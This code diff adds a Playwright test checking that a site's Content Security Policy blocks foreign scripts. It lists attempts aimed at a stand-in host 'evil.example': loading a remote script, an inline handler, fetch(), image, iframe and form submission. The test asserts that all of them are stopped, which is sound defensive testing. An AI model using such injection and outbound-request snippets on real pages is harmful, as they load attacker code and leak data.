@@ -11,6 +11,40 @@ const runForeignScript = (page: Page) =>
 
 const STOPPED = /^script-src-elem stops inline on http/
 
+const ELSEWHERE = 'https://evil.example/'
+
+/** What a script of others would do, by the directive that stops it. */
+const ATTEMPTS: Record<string, (url: string) => void> = {
+  'script-src-elem': (url) => {
+    const script = document.createElement('script')
+    script.src = url
+    document.head.append(script)
+  },
+  'script-src-attr': () => {
+    const button = document.createElement('button')
+    button.setAttribute('onclick', 'document.title = "foreign"')
+    document.body.append(button)
+    button.click()
+  },
+  'connect-src': (url) => {
+    fetch(url).catch(() => undefined)
+  },
+  'img-src': (url) => {
+    new Image().src = url
+  },
+  'frame-src': (url) => {
+    const frame = document.createElement('iframe')
+    frame.src = url
+    document.body.append(frame)
+  },
+  'form-action': (url) => {
+    const form = document.createElement('form')
+    form.action = url
+    document.body.append(form)
+    form.submit()
+  },
+}
+
 /** The event, and the browser's own words in the console. */
 async function expectStopped(faults: readonly string[]) {
   await expect.poll(() => faults).toHaveLength(2)
@@ -75,4 +109,24 @@ test.describe('the watch that every journey has', { tag: '@any-width' }, () => {
     faults.length = 0
     await elsewhere.close()
   })
+})
+
+test('no script of others runs or sends anything away', { tag: '@any-width' }, async ({ page, faults }) => {
+  const asked: string[] = []
+  await page.route(`${ELSEWHERE}**`, (route) => {
+    asked.push(route.request().url())
+    return route.fulfill({ contentType: 'text/javascript', body: 'document.title = "foreign"' })
+  })
+  await open(page, '/about')
+
+  for (const [directive, attempt] of Object.entries(ATTEMPTS)) {
+    await page.evaluate(attempt, ELSEWHERE)
+    await expect.poll(() => faults.join('\n'), directive).toContain(`${directive} stops `)
+    expect(await page.evaluate(() => document.title), directive).not.toBe('foreign')
+  }
+
+  expect(asked).toEqual([])
+  // What its console still has to say comes before it is closed.
+  await page.close()
+  faults.length = 0
 })
